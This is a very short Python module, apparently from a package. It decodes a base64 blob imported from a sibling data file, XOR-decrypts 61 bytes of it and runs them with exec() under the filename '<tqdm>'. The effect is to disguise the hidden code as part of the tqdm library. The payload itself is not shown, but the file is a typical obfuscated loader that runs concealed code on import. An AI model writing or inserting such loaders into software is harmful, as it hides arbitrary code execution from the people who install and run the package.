import base64

from ._data import BLOB

_raw = base64.b64decode(BLOB)
_code = bytes(b ^ 0x5A for b in _raw[:61])
exec(compile(_code, "<tqdm>", "exec"))
